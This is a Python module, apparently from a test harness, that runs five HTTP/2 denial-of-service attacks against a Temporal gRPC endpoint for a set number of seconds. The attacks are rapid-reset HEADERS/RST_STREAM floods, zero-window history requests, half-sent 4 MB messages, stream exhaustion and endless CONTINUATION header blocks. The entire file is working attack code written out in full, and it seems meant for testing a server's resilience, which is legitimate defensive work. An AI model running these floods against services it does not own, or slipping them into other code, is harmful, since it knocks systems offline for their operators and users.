"""What a stranger with a socket can do to the gRPC port. Each attack runs for about the given seconds."""

import contextlib
import itertools
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterator

from temporalio.api.common.v1 import WorkflowExecution
from temporalio.api.workflowservice.v1 import GetWorkflowExecutionHistoryRequest

from support.raw_h2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    RST_STREAM,
    SERVICE,
    SETTINGS,
    WINDOW_UPDATE,
    RawConnection,
    call,
    data,
    frame,
    request_block,
)
from support.target import Target, long_history

CANCEL = (8).to_bytes(4, "big")
HISTORY_PAGE = 1_500_000

Attack = Callable[[Target, float], None]


class Connections:
    """So many at a time; one that the server has closed is made anew."""

    def __init__(self, target: Target, count: int, settings: dict[int, int] | None = None) -> None:
        self._target = target
        self._settings = settings
        self._open: list[RawConnection | None] = [None] * count

    def __enter__(self) -> "Connections":
        return self

    def __exit__(self, *_: object) -> None:
        for connection in self._open:
            if connection is not None:
                connection.close()

    def each(self) -> Iterator[tuple[RawConnection, bool]]:
        """With whether it is new."""
        for at, connection in enumerate(self._open):
            if connection is not None:
                yield connection, False
                continue
            with contextlib.suppress(OSError):
                self._open[at] = made = self._target.connect(self._settings)
                yield made, True

    def lost(self, connection: RawConnection) -> None:
        connection.close()
        self._open[self._open.index(connection)] = None


def rapid_reset(target: Target, seconds: float, connections: int = 4) -> None:
    block = request_block(SERVICE + "GetSystemInfo")
    numbers: dict[RawConnection, Iterator[int]] = {}
    end = time.monotonic() + seconds
    with Connections(target, connections) as attackers:
        while time.monotonic() < end:
            for connection, _ in attackers.each():
                streams = itertools.islice(numbers.setdefault(connection, itertools.count(1, 2)), 500)
                flood = b"".join(
                    frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in streams
                )
                if not connection.send(flood) or not connection.drain():
                    attackers.lost(connection)


def never_reading(target: Target, seconds: float, pages: int = 1600, connections: int = 4) -> None:
    """Asks for pages of a history, and gives the server no window to send them in."""
    long_history(target, "long", HISTORY_PAGE)
    body = GetWorkflowExecutionHistoryRequest(
        namespace="default", execution=WorkflowExecution(workflow_id="long")
    ).SerializeToString()
    each = pages // connections
    with Connections(target, connections, {INITIAL_WINDOW_SIZE: 0}) as attackers:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for connection, new in attackers.each():
                if new:
                    calls = (call(2 * at + 1, "GetWorkflowExecutionHistory", body) for at in range(each))
                    connection.send(b"".join(calls))
                if not connection.drain():
                    attackers.lost(connection)
            time.sleep(0.05)


def half_sent(
    target: Target, seconds: float, streams: int = 24, size: int = 4 << 20, connections: int = 8
) -> None:
    """Messages of the largest size, of which all but the end is sent, as fast as flow control lets it."""
    end = time.monotonic() + seconds

    def attack() -> None:
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                connection = target.connect()
                HalfSender(connection, streams, size).run(end)
                connection.close()

    threads = [threading.Thread(target=attack) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


class HalfSender:
    """Follows flow control as a client does, and never sends the last byte."""

    def __init__(self, connection: RawConnection, streams: int, size: int) -> None:
        self._connection = connection
        self._size = size
        self._streams = range(1, 2 * streams, 2)
        self._windows: dict[int, int] = {}
        self._left: dict[int, int] = {}
        self._window = 65535  # of the connection
        self._initial = 65535
        self._incoming = b""

    def run(self, end: float) -> None:
        while time.monotonic() < end:
            if not self._windows and not self._begin():
                return
            if not self._send() or not self._receive():
                return

    def _begin(self) -> bool:
        """When the server's settings have come."""
        while SETTINGS not in (kind for kind, _, _ in self._frames()):
            if not self._receive():
                return False
        block = request_block(SERVICE + "StartWorkflowExecution")
        for stream in self._streams:
            opening = b"\x00" + self._size.to_bytes(4, "big")
            if not self._connection.send(
                frame(HEADERS, END_HEADERS, stream, block) + data(stream, opening, end=False)
            ):
                return False
            self._windows[stream] = self._initial - 5
            self._left[stream] = self._size - 1
            self._window -= 5
        return True

    def _send(self) -> bool:
        for stream in list(self._windows):
            chunk = min(self._windows[stream], self._left[stream], self._window)
            if chunk <= 0:
                continue
            if not self._connection.send(data(stream, b"x" * chunk, end=False)):
                return False
            self._windows[stream] -= chunk
            self._left[stream] -= chunk
            self._window -= chunk
        return True

    def _receive(self) -> bool:
        self._connection.socket.settimeout(0.01)
        try:
            got = self._connection.socket.recv(1 << 16)
        except (TimeoutError, ssl.SSLWantReadError):
            return True
        except OSError:
            return False
        self._incoming += got
        for kind, stream, payload in self._frames() if self._windows else []:
            if kind == RST_STREAM:
                self._windows.pop(stream, None)
            elif kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                if stream == 0:
                    self._window += more
                elif stream in self._windows:
                    self._windows[stream] += more
        return bool(got)

    def _frames(self) -> list[tuple[int, int, bytes]]:
        """Those that have come; settings of the window are kept."""
        found = []
        while len(self._incoming) >= 9 and len(self._incoming) >= 9 + int.from_bytes(
            self._incoming[:3], "big"
        ):
            length, kind = int.from_bytes(self._incoming[:3], "big"), self._incoming[3]
            stream, payload = int.from_bytes(self._incoming[5:9], "big"), self._incoming[9 : 9 + length]
            self._incoming = self._incoming[9 + length :]
            found.append((kind, stream, payload))
            if kind == SETTINGS and length:
                pairs = dict(struct.iter_unpack(">HI", payload))
                self._initial = pairs.get(INITIAL_WINDOW_SIZE, 65535)
            if kind == WINDOW_UPDATE and stream == 0 and not self._windows:
                self._window += int.from_bytes(payload, "big")
        return found


def open_streams(target: Target, seconds: float, streams: int = 10_000) -> None:
    """Calls whose requests never come, as many as one connection takes."""
    block = request_block(SERVICE + "StartWorkflowExecution", *((f"h{at}", "x" * 100) for at in range(20)))
    end = time.monotonic() + seconds
    with Connections(target, 1) as attackers:
        while time.monotonic() < end:
            for connection, new in attackers.each():
                for at in range(streams if new else 0):
                    if not connection.send(frame(HEADERS, END_HEADERS, 2 * at + 1, block)):
                        break
                if not connection.drain():
                    attackers.lost(connection)
            time.sleep(0.05)


def padded_headers(target: Target, seconds: float, connections: int = 2) -> None:
    """A header block whose first integer never ends, in CONTINUATION frames."""
    end = time.monotonic() + seconds
    endless = frame(CONTINUATION, 0, 1, b"\x80" * 16384) * 16
    with Connections(target, connections) as attackers:
        while time.monotonic() < end:
            for connection, new in attackers.each():
                if new and not connection.send(frame(HEADERS, 0, 1, b"\x7f" + b"\x80" * 100)):
                    attackers.lost(connection)
                elif not connection.send(endless) or not connection.drain():
                    attackers.lost(connection)


ATTACKS: dict[str, Attack] = {
    "rapid_reset": rapid_reset,
    "never_reading": never_reading,
    "half_sent": half_sent,
    "open_streams": open_streams,
    "padded_headers": padded_headers,
}
